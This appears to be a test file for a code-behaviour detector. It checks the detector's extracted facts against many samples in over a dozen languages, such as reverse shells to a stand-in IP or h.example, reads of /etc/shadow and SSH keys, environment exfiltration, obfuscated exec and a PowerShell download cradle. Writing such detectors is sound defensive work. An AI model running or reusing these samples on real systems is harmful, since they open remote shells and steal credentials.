import { deflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import { callAt } from './calls';
import { codeFacts, languageOfFile } from './facts';
import { createProgram } from './program';

/** Facts in short: `kind(literals)`. */
const told = (language: string, text: string) =>
  codeFacts(language, text).map(({ kind, literals }) => `${kind}(${literals.join(',')})`);
const base64 = (text: string) => Buffer.from(text).toString('base64');

const CASES: readonly (readonly [language: string, text: string, facts: readonly string[]])[] = [
  [
    'python3.12',
    'import socket as s,os\nc=s.socket();c.connect(("192.0.2.7",4242));os.dup2(c.fileno(),0);__import__("pty").spawn("/bin/bash")',
    ['socket-connect(192.0.2.7,4242)', 'dup-to-stdio()', 'pty()', 'spawn-shell(/bin/bash)'],
  ],
  [
    'python',
    'from socket import create_connection as go\nh="192.0"+".2.7"\ngo((h,80+1))',
    ['socket-connect(192.0.2.7,81)'],
  ],
  [
    'python',
    'import socket,subprocess\ns=socket.socket()\ns.connect(("h.example",9))\nwhile 1:\n  d=s.recv(99)\n  subprocess.run(d.decode(),shell=True)',
    ['socket-connect(h.example,9)', 'spawn-shell()'],
  ],
  [
    'python',
    'import subprocess as p;p.Popen(["/bin/sh","-i"],stdin=conn);p.run(["git","status"])',
    ['spawn-shell(/bin/sh -i)', 'spawn(git status)'],
  ],
  [
    'python',
    'for p in ("/etc/shadow", "~/.netrc"):\n  open(p).read()',
    ['file-read(/etc/shadow)', 'file-read(~/.netrc)'],
  ],
  [
    'javascript',
    'const fs=require("fs");for (const f of ["/a/.env", "/b/.env"]) fs.readFileSync(f)',
    ['file-read(/a/.env)', 'file-read(/b/.env)'],
  ],
  ['python', 's.bind(("0.0.0.0",4444));s.listen(1)', ['socket-listen(0.0.0.0,4444)']],
  [
    'python',
    'open("/etc/sha"+"dow").read();open("out","w");open(chr(47)+"x","a+")',
    ['file-read(/etc/shadow)', 'file-write(out)', 'file-write(/x)', 'file-read(/x)'],
  ],
  [
    'python',
    'import os.path\nopen(os.path.join(os.environ["HOME"],".ssh","id_rsa"))',
    ['file-read(~/.ssh/id_rsa)', 'environment-read(HOME)'],
  ],
  [
    'python',
    'from pathlib import Path\n(Path.home()/".netrc").read_text()\nwith open(f"{d}/key.pem") as f: pass',
    ['file-read(~/.netrc)', 'file-read(\uFFFD/key.pem)'],
  ],
  [
    'python',
    'import os,requests\nrequests.post("https://h.example/x",json=dict(os.environ))',
    ['fetch(https://h.example/x)', 'send(https://h.example/x)', 'environment-read()'],
  ],
  [
    'python',
    'import os,subprocess\nsubprocess.run(["ls"],env={**os.environ,"A":"1"});e=os.environ.copy();os.environ["A"]="b";os.getenv("B")',
    ['spawn(ls)', 'environment-read(B)'],
  ],
  [
    'python',
    `exec(__import__("base64").b64decode("${base64('import os;os.system("id")')}"))`,
    ['evaluate(import os;os.system("id"))', 'spawn(id)', 'decode(import os;os.system("id"))'],
  ],
  [
    'python',
    'getattr(__import__("o"+"s"),"sys"+"tem")("id");eval("".join(map(chr,[112,49])))',
    ['spawn(id)', 'evaluate(p1)'],
  ],
  [
    'python',
    `exec(bytes.fromhex("${Buffer.from('os.system("id")').toString('hex')}").decode())`,
    ['evaluate(os.system("id"))', 'spawn(id)', 'decode(os.system("id"))'],
  ],
  [
    'python',
    '# os.system("id")\nx="os.system(\'id\')"\n"""\nos.system("id")\n"""\nprint("connect((\'1.2.3.4\',5))")\nre.search("x", "y");db.connect("app.sqlite")',
    [],
  ],
  [
    'node',
    'const {exec:run}=require("node:child_process");run("id");require("fs").readFileSync(require("os").homedir()+"/.npmrc")',
    ['spawn(id)', 'file-read(~/.npmrc)'],
  ],
  [
    'node',
    'var n=require("net"),c=require("child_process"),sh=c.spawn("sh",["-i"]);var s=new n.Socket();s.connect(4242,"192.0.2.7",function(){s.pipe(sh.stdin);sh.stdout.pipe(s)})',
    ['spawn-shell(sh -i)', 'socket-connect(192.0.2.7,4242)', 'dup-to-stdio()', 'dup-to-stdio()'],
  ],
  [
    'javascript',
    'import {connect} from "net";const c=connect({host:"h.example",port:1});c.on("data",d=>require("child_process").exec(d.toString()))',
    ['socket-connect(h.example,1)', 'spawn-shell()'],
  ],
  [
    'javascript',
    'require("net").createServer(s=>{const p=require("child_process").spawn("/bin/sh");s.pipe(p.stdin)}).listen(4444)',
    ['spawn-shell(/bin/sh)', 'dup-to-stdio()', 'socket-listen(,4444)'],
  ],
  [
    'javascript',
    `eval(atob("${base64("require('child_process').execSync('id')")}"))`,
    [
      "evaluate(require('child_process').execSync('id'))",
      'spawn(id)',
      "decode(require('child_process').execSync('id'))",
    ],
  ],
  [
    'javascript',
    'fetch("https://h.example/"+btoa(JSON.stringify(process.env)));process.env.HOME;spawn("x",{env:{...process.env}})',
    ['fetch(https://h.example/\uFFFD)', 'environment-read()', 'environment-read(HOME)'],
  ],
  [
    'javascript',
    '/exec("x")/.exec(y); // child_process.exec("x")\nconst t=`require("child_process").exec("x")`;app.listen(3000);re.exec("x")',
    [],
  ],
  [
    'perl',
    'use Socket;$i="192.0.2.7";$p=4242;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");}',
    ['socket-connect(192.0.2.7,4242)', 'dup-to-stdio()', 'spawn-shell(/bin/sh -i)'],
  ],
  [
    'perl',
    '$c=new IO::Socket::INET(PeerAddr,"h.example:1");STDIN->fdopen($c,r);system$_ while<>;',
    ['socket-connect(h.example,1)', 'dup-to-stdio()', 'spawn()'],
  ],
  [
    'perl',
    'open(F,"<","/etc/shadow");open(G,">out");open(H,"ls|");print `id`,$ENV{HOME};print "system(1)"; # exec "sh"',
    ['file-read(/etc/shadow)', 'file-write(out)', 'spawn(ls|)', 'spawn(id)', 'environment-read(HOME)'],
  ],
  [
    'ruby',
    'c=TCPSocket.new("192.0.2.7",4242);while(l=c.gets);IO.popen(l,"r"){|io|c.print io.read}end',
    ['socket-connect(192.0.2.7,4242)', 'spawn-shell()'],
  ],
  [
    'ruby',
    'puts File.read(File.expand_path("~/.ssh/id_rsa"));exec "/bin/sh";x=%q(system("id"));y="#{`id`}"',
    ['file-read(~/.ssh/id_rsa)', 'spawn-shell(/bin/sh)'],
  ],
  [
    'php',
    '<?php $s=fsockopen("192.0.2.7",4242);$p=proc_open("sh",array(0=>$s),$x);$f="sys"."tem";$f("id");// exec("x")',
    ['socket-connect(192.0.2.7,4242)', 'spawn-shell(sh)', 'dup-to-stdio()', 'spawn(id)'],
  ],
  [
    'php',
    `echo file_get_contents("/etc/shadow");file_get_contents("http://h.example/");eval(gzinflate(base64_decode("${deflateRawSync('system("id");').toString('base64')}")));`,
    [
      'file-read(/etc/shadow)',
      'fetch(http://h.example/)',
      'evaluate(system("id");)',
      'spawn(id)',
      'decode(system("id");)',
    ],
  ],
  [
    'lua',
    't=require("socket").tcp();t:connect("h.example",1);os.execute("sh");io.open("/etc/shadow"):read() -- os.execute("x")',
    ['socket-connect(h.example,1)', 'spawn-shell(sh)', 'file-read(/etc/shadow)'],
  ],
  [
    'gawk',
    'BEGIN{s="/inet/tcp/0/" "192.0.2.7" "/4242";s |& getline c;while((c |& getline)>0)print |& s}',
    ['socket-connect(192.0.2.7,4242)', 'spawn-shell()'],
  ],
  ['awk', '/system\\("id"\\)/{print $1 > "out"} {print | "sort"} # system("x")', ['file-write(out)', 'spawn(sort)']],
  [
    'pwsh',
    '$c=New-Object Net.Sockets.TCPClient("192.0.2.7",4242);$d=$r.Read();iex $d',
    ['socket-connect(192.0.2.7,4242)', 'spawn-shell()'],
  ],
  [
    'powershell',
    "IEX(New-Object Net.WebClient).DownloadString('http://h.example/a');Get-Content ~/.ssh/id_rsa # iex x",
    ['evaluate()', 'fetch(http://h.example/a)', 'file-read(~/.ssh/id_rsa)'],
  ],
  [
    'go',
    'c,_:=net.Dial("tcp","192.0.2.7:1");exec.Command("/bin/sh") // net.Dial("tcp","x:1")',
    ['socket-connect(192.0.2.7,1)', 'spawn-shell(/bin/sh)'],
  ],
  [
    'c',
    'int main(){connect(s,(struct sockaddr*)&a,sizeof a);dup2(s,0);execve("/bin/sh",0,0);/* system("x") */}',
    ['socket-connect(,)', 'dup-to-stdio()', 'spawn-shell(/bin/sh)'],
  ],
  [
    'java',
    'Socket s=new Socket("192.0.2.7",1);Runtime.getRuntime().exec("id");',
    ['socket-connect(192.0.2.7,1)', 'spawn(id)'],
  ],
  ['cobol', 'CALL "SYSTEM" USING "id".', []],
  [
    'python',
    'import glob,os,netrc\nfor f in glob.glob(os.path.expanduser("~/.ssh/*")): print(open(f).read())\nnetrc.netrc()',
    ['file-read(~/.ssh/*)', 'file-read(~/.netrc)'],
  ],
  [
    'python',
    'import subprocess\nc=open("c.txt").read()\nsubprocess.run(c,shell=True)',
    ['file-read(c.txt)', 'spawn()'],
  ],
  [
    'javascript',
    'import("node:net").then(n=>{const s=n.connect(1,"192.0.2.7");import("node:child_process").then(c=>c.spawn("sh",{stdio:[s,s]}))})',
    ['socket-connect(192.0.2.7,1)', 'spawn-shell(sh)', 'dup-to-stdio()'],
  ],
  [
    'javascript',
    'const W=require("ws");const w=new W("ws://192.0.2.7:9");w.on("message",m=>require("child_process").exec(m.toString()))',
    ['socket-connect(192.0.2.7,9)', 'fetch(ws://192.0.2.7:9)', 'spawn-shell()'],
  ],
  [
    'bun',
    'Bun.connect({hostname:"192.0.2.7",port:1,socket:{data(s,d){Bun.spawnSync(["sh","-c",d.toString()])}}})',
    ['socket-connect(192.0.2.7,1)', 'spawn-shell()'],
  ],
  ['perl', 'while(<$c>){print $c qx($_)}', ['spawn-shell()']],
  [
    'php',
    '$s=fsockopen("192.0.2.7",1);while($c=fgets($s)){$o=`$c`;}',
    ['socket-connect(192.0.2.7,1)', 'spawn-shell()'],
  ],
  ['php', '$s="id; /bin/sh -i";proc_open($s,$d,$p);', ['spawn-shell(id; /bin/sh -i)']],
  [
    'powershell',
    '$c=[Net.Sockets.TcpClient]::new("192.0.2.7",1);& ([scriptblock]::Create($l))',
    ['socket-connect(192.0.2.7,1)', 'evaluate()'],
  ],
  ['jshell', 'Runtime.getRuntime().exec(new String[]{"sh","-i"});', ['spawn-shell(sh -i)']],
  [
    'dart',
    'Socket.connect("192.0.2.7", 1).then((s) { Process.start("sh", []); });',
    ['socket-connect(192.0.2.7,1)', 'spawn-shell(sh)'],
  ],
  [
    'crystal',
    'c=Socket.tcp(X);c.connect("192.0.2.7",1);m,l=c.receive;Process.new(m.rstrip,shell:true)',
    ['socket-connect(,)', 'socket-connect(192.0.2.7,1)', 'spawn-shell()'],
  ],
  [
    'tclsh',
    'set s [socket 192.0.2.7 1];gets $s c;exec $c;exec ls -l',
    ['socket-connect(192.0.2.7,1)', 'spawn-shell()', 'spawn(ls -l)'],
  ],
  [
    'Rscript',
    's<-socketConnection("192.0.2.7",1);system(readLines(s,1))',
    ['socket-connect(192.0.2.7,1)', 'spawn-shell()', 'file-read()'],
  ],
  [
    'julia',
    'c=connect("192.0.2.7",1);run(`ls -l`);run(Cmd(["sh","-c",x]))',
    ['socket-connect(192.0.2.7,1)', 'spawn(ls -l)', 'spawn(ls -l)', 'spawn-shell()', 'spawn-shell()'],
  ],
  ['elixir', '{:ok,s}=:gen_tcp.connect({192,0,2,7},1,[]);:os.cmd(d)', ['socket-connect(192.0.2.7,1)', 'spawn-shell()']],
  ['osascript', 'do shell script "id -u"', ['spawn(id -u)']],
];

describe('codeFacts', () => {
  it.each(CASES)('%s: %s', (language, text, facts) => {
    expect(told(language, text)).toEqual(facts);
  });

  const LANGUAGES = ['python', 'javascript', 'perl', 'ruby', 'php', 'lua', 'awk', 'powershell', 'go', 'c', 'java'];
  const shards = [
    'f(',
    '(',
    '[',
    'a=',
    'a=b+',
    'a,b=',
    '"',
    "'",
    '`',
    '/',
    '/*',
    'eval(',
    'chr(',
    'x="a"+x\n',
    '<<A\n',
    'q(',
    '%w(',
    'New-Object ',
    '.on("data",x=>',
    '[[',
    '\\',
    '\uFFFD',
    'import a as b\n',
    'exec("exec(\'',
    'os.environ',
    '".join(',
  ];

  it('never throws and stays within its bounds on any text', () => {
    const text = fc
      .array(fc.oneof(fc.constantFrom(...shards), fc.string()), { maxLength: 40 })
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(fc.constantFrom(...LANGUAGES), text, (language, code) => codeFacts(language, code).length <= 500),
    );
  });

  it.each(shards)('takes 64 KB of %s within the budget', (shard) => {
    for (const language of ['python', 'javascript', 'perl', 'powershell'] as const) {
      const program = createProgram(language, shard.repeat(Math.ceil(65_536 / shard.length)));
      for (let at = 0; at < program.tokens.length; at++) callAt(program, at);
      expect(program.budget).toBeGreaterThan(-5_000);
    }
  });
});

describe('languageOfFile', () => {
  it.each([
    ['a.py', '', 'python'],
    ['run', '#!/usr/bin/env python3\n', 'python'],
    ['run', '#!/bin/bash -e\n', 'shell'],
    ['x.sh', '', 'shell'],
    ['notes.md', 'x', undefined],
    ['tool', '#!/usr/bin/env -S node --x\n', 'javascript'],
  ])('%s with %j is %s', (path, content, language) => {
    expect(languageOfFile(path, content)).toBe(language);
  });
});
